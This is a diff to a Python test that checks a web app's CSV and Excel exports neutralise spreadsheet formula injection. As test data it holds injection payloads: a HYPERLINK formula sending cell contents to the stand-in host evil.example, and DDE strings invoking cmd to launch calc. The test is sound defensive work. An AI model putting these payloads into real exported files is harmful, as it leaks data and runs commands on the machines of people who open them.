@@ -76,13 +76,17 @@ def test_report_text_cannot_become_a_spreadsheet_formula(signed_in, db):
     from outputs.db import session_scope
     from outputs.db.models import FlagRow
 
-    fid = flag_id(db, "total_mismatch", "duc-chinh-2020-h1.docx")
+    fid = flag_id(db, "total_mismatch", "duc-chinh-2020-h1.pdf")
     evil = '=HYPERLINK("http://evil.example/?"&A1,"8.28")'
+    payloads = {"stated": evil, "suggestion": "@SUM(A1)", "message": "-2+3+cmd|' /C calc'!A0",
+                "message_en": "+1+cmd|' /C calc'!A0", "section": "\t=1+1", "column": "\r=1+1"}
     with session_scope(db) as s:
-        s.execute(update(FlagRow).where(FlagRow.id == fid).values(stated=evil, suggestion="@SUM(A1)"))
+        s.execute(update(FlagRow).where(FlagRow.id == fid).values(**payloads))
     rows = list(csv.reader(io.StringIO(signed_in.get("/export/flags.csv").content.decode("utf-8-sig"))))
     (row,) = [r for r in rows[1:] if r[0] == str(fid)]
-    assert "'" + evil in row and "'@SUM(A1)" in row and evil not in row
+    for value in payloads.values():  # every formula prefix: =, +, -, @, tab, carriage return
+        assert "'" + value in row and value not in row, value
+    assert "828" in row and "-5" not in row  # a plain number stays a number
     book = load_workbook(io.BytesIO(signed_in.get("/export/review.xlsx").content))
     cells = [c for r in book["Flags"].iter_rows() for c in r if c.value == evil]
     assert cells and all(c.data_type == "s" for c in cells)
